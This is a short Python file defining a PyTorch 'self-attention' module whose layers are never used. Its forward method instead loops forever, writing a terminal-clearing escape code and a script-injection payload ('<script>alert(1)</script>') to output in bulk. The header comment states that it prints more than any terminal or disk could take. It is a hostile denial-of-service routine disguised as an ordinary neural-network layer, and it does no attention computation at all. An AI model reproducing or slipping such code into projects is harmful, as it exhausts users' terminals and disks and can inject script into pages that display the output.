# Prints more than any terminal or disk could take.
import sys

from torch import nn


class MySelfAttention(nn.Module):
    def __init__(self, hidden_size):
        super().__init__()
        self.linear_q = nn.Linear(hidden_size, hidden_size)
        self.linear_k = nn.Linear(hidden_size, hidden_size)
        self.linear_v = nn.Linear(hidden_size, hidden_size)

    def forward(self, x):
        while True:
            sys.stdout.write("\x1b[2J<script>alert(1)</script>" * 10_000)
